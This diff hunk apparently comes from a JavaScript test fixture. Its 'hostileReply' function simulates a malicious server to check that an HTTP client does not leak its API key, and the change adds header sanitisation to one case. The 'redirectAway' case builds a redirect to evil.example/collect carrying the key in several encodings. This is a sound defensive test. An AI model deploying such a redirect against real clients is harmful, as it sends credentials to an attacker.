@@ -63,7 +63,7 @@ export function hostileReply(r, request, { authHeader, contextHeaders = [], stat
     malformedJsonError: () => ({ status: r.pick([400, 500]), headers: { "content-type": "application/json" }, body: `{"error":{"message":"bad key ${key}" ${forms[pick]}` }),
     redirectSameOrigin: () => ({ status: r.pick([301, 302, 303, 307, 308]), headers: { location: `/redirected/${r.int(1e6)}?key=${encodeURIComponent(key)}&b=${forms.base64url}` } }),
     redirectUserinfo: () => ({ status: 302, headers: { location: `http://${encodeURIComponent(key)}@127.0.0.1:1/x` } }),
-    redirectAway: () => ({ status: r.pick([301, 302, 307]), headers: { location: `https://evil.example/collect?k=${forms[pick]}&raw=${encodeURIComponent(key)}&b64=${forms.base64}` } }),
+    redirectAway: () => ({ status: r.pick([301, 302, 307]), headers: { location: headerSafe(`https://evil.example/collect?k=${forms[pick]}&raw=${encodeURIComponent(key)}&b64=${forms.base64}`) } }),
     requestIdEcho: () => ({ status: r.pick([200, 404]), headers: { "request-id": r.pick([key, forms.base64, forms[pick], `req_${context[0] ?? "none"}`]).replace(/[^\x20-\x7e]/g, "") }, json: { ok: 1 } }),
     unreachable: () => ({ destroy: true }),
     noContent: () => ({ status: 204 }),
